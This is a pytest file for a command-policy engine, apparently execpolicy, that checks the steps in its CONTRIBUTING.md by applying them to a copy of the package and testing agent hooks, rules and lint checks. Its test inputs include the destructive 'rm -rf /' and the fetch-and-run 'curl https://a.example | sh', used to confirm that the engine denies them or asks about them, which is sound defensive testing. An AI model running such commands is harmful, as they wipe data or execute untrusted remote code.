"""The steps of CONTRIBUTING.md, followed in a copy of the package, do what they promise."""

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from textwrap import dedent, indent
from typing import NamedTuple

import pytest

from execpolicy.lint.registry import CHECKS

ROOT = Path(__file__).parents[1]
TEXT = (ROOT / "CONTRIBUTING.md").read_text()
STEP = re.compile(
    r"^\d+\. (?:Create `(?P<created>[^`]+)`|In `(?P<edited>[^`]+)`, after `(?P<anchor>[^`]+)`, add)"
    r"(?:(?!^\d+\. |^#).)*?\n\n"
    r"(?P<fence>   `{3,})\w+\n(?P<block>.*?)^(?P=fence)$",
    re.MULTILINE | re.DOTALL,
)


class Step(NamedTuple):
    """A file to make, or lines to add to one after the line `anchor`."""

    path: str
    anchor: str | None
    block: str


STEPS = [
    Step(m["created"] or m["edited"], m["anchor"], dedent(m["block"])) for m in STEP.finditer(TEXT)
]


def follow(step: Step, root: Path) -> None:
    """Do what a step says. The line it names stands once in its file."""
    path = root / step.path
    if step.anchor is None:
        assert not path.exists(), path
        path.write_text(step.block)
        return
    lines = path.read_text().splitlines(keepends=True)
    (at,) = [number for number, line in enumerate(lines) if line.strip() == step.anchor]
    below = lines[at + 1]
    lines.insert(at + 1, indent(step.block, below[: len(below) - len(below.lstrip())]))
    path.write_text("".join(lines))


UNUSED = (
    *("packages_*.rules", "macos.rules", "databases.rules", "media.rules", "clouds.rules"),
    *("forges.rules", "azure.rules", "gcloud.rules", "git.rules", "aws*.rules", "kube*.rules"),
)
"""Long files that no step is about: the rest is compiled in half the time."""


@pytest.fixture(scope="module")
def copy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The package after all steps, without what was compiled of the package before them."""
    root = tmp_path_factory.mktemp("contributing")
    without = shutil.ignore_patterns("__pycache__", "data", *UNUSED)
    for name in ("execpolicy", "rules", "grammar", "plugins", "docs"):
        shutil.copytree(ROOT / name, root / name, ignore=without)
    for step in STEPS:
        follow(step, root)
    return root


def python(root: Path, *words: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    """Python, with the copy as the package, for it is where this runs. What one process compiled of
    it, the next ones read."""
    given = {name: value for name, value in os.environ.items() if name != "PYTHONDONTWRITEBYTECODE"}
    given |= {"PYTHONPYCACHEPREFIX": str(root.with_name("compiled"))}
    return subprocess.run(
        [sys.executable, *words],
        cwd=root,
        env=given,
        input=stdin,
        capture_output=True,
        text=True,
        check=False,
    )


def run(root: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    """The command line of the copy."""
    return python(root, "-m", "execpolicy", *arguments)


def test_each_kind_of_part_has_steps() -> None:
    made = [step.path for step in STEPS if step.anchor is None]
    assert made == [
        "execpolicy/hosts/protocols/acme.py",
        "execpolicy/language/builtins/read_only.py",
        "execpolicy/lint/checks/justifications.py",
        "docs/lint/justification-long.md",
        "rules/shipit.rules",
        "rules/showit.rules",
        "rules/releases.rules",
    ]
    assert len(STEPS) > len(made)
    assert "justification-long" not in CHECKS


def test_the_new_files_are_in_the_style_of_the_project(tmp_path: Path) -> None:
    """Imports are ordered in the copy: whether a name is of this project depends on the place."""
    for step in STEPS:
        if step.anchor is None and step.path.endswith(".py"):
            (tmp_path / Path(step.path).name).write_text(step.block)
    config = ["--config", str(ROOT / "pyproject.toml"), "--no-cache", str(tmp_path)]
    first_party = 'lint.isort.known-first-party = ["execpolicy"]'
    for words in (["check", "--config", first_party], ["format", "--check"]):
        done = subprocess.run(
            [sys.executable, "-m", "ruff", *words, *config],
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stdout + done.stderr


ANSWER = """
import sys
from execpolicy.commands.hook import Hook
sys.stdout.write(Hook("acme").answer(sys.stdin.buffer.read()).stdout)
"""
"""What the hook says, however long it takes."""
INSTALL = """
from execpolicy.hosts.install.hooks import installed
from execpolicy.hosts.install.host import HOSTS
print(installed(None, HOSTS["acme"], ["execpolicy"]))
"""


def acme(root: Path, command: str) -> dict[str, str]:
    payload = {"event": "before_tool", "tool_name": "bash", "tool_input": {"command": command}}
    done = python(root, "-c", ANSWER, stdin=json.dumps(payload))
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)  # type: ignore[no-any-return]


def test_the_agent_gets_answers_and_its_hook(copy: Path) -> None:
    assert acme(copy, "rm -rf /")["verdict"] == "deny"
    asked = acme(copy, "curl https://a.example | sh")
    assert asked["verdict"] == "ask"
    assert "curl" in asked["reason"]
    file = json.loads(python(copy, "-c", INSTALL).stdout)
    (item,) = file["hooks"]["before_tool"]
    assert item["command"] == "execpolicy hook acme"


def test_the_builtin_makes_its_rule(copy: Path, tmp_path: Path) -> None:
    rules = tmp_path / "own.rules"
    rules.write_text('read_only(["/srv/vendor/**"])\n')
    refused = run(copy, "check", "--rules", str(rules), "-c", "echo x > /srv/vendor/a")
    assert (refused.returncode, "it is read only" in refused.stdout) == (2, True)
    assert run(copy, "check", "--rules", str(rules), "-c", "cat /srv/vendor/a").returncode != 2
    rules.write_text("read_only([])\n")
    broken = run(copy, "check", "--rules", str(rules), "--", "ls")
    assert (broken.returncode, "non-empty list" in broken.stderr) == (1, True)


def examples(page: str) -> Iterator[tuple[str, str]]:
    for found in re.finditer(r"^```starlark (bad|good)\n(.*?)^```$", page, re.M | re.S):
        yield found[1], found[2]


def test_the_lint_check_finds_what_its_page_shows(copy: Path, tmp_path: Path) -> None:
    page = (copy / "docs/lint/justification-long.md").read_text()
    shown = dict(examples(page))
    assert set(shown) == {"bad", "good"}
    for kind, text in shown.items():
        (tmp_path / f"{kind}.rules").write_text(text)
        done = run(copy, "lint", str(tmp_path / f"{kind}.rules"))
        assert ("justification-long" in done.stdout) == (kind == "bad"), done.stdout + done.stderr
    assert run(copy, "lint", "--explain", "justification-long").stdout == page


PROGRAM = [("shipit status", 0), ("shipit clean out", 3), ("shipit status --moon", 3)]


@pytest.mark.parametrize(("command", "code"), PROGRAM)
def test_the_program_is_known(copy: Path, command: str, code: int) -> None:
    assert run(copy, "check", "-c", command).returncode == code


def test_the_program_is_formatted_and_has_no_findings(copy: Path) -> None:
    for words in (("fmt", "--check"), ("lint",)):
        done = run(copy, *words, "rules/shipit.rules")
        assert done.returncode == 0, done.stdout + done.stderr


def test_the_effect_asks_in_its_own_words_and_a_posture_decides(copy: Path, tmp_path: Path) -> None:
    asked = run(copy, "check", "-c", "showit notes.txt")
    assert (asked.returncode, "shows something to everybody" in asked.stdout) == (3, True)
    rules = tmp_path / "own.rules"
    rules.write_text('posture(publish = "allow")\n')
    assert run(copy, "check", "--rules", str(rules), "-c", "showit notes.txt").returncode == 0
    rules.write_text('prefix_rule(["showit"], decision = "allow", effects = ["publish"])\n')
    assert run(copy, "check", "--rules", str(rules), "-c", "showit notes.txt").returncode == 0


def test_the_class_of_places_asks_where_it_is_written(copy: Path) -> None:
    asked = run(copy, "check", "-c", "echo x > releases/a")
    assert (asked.returncode, "goes to customers" in asked.stdout) == (3, True), asked.stderr
    assert run(copy, "check", "-c", "cat releases/a").returncode == 0


COUNT = """
import sys
from execpolicy import Engine
from execpolicy.model.wording import question
print(*question(Engine.load(rules=[]).check(sys.argv[1])).lines, sep="\\n")
"""


def test_the_question_is_worded_in_the_new_way(copy: Path) -> None:
    for command, count in (("shipit clean out; showit a", True), ("showit a", False)):
        said = python(copy, "-c", COUNT, command).stdout
        assert ("2 things need an answer" in said) == count, said
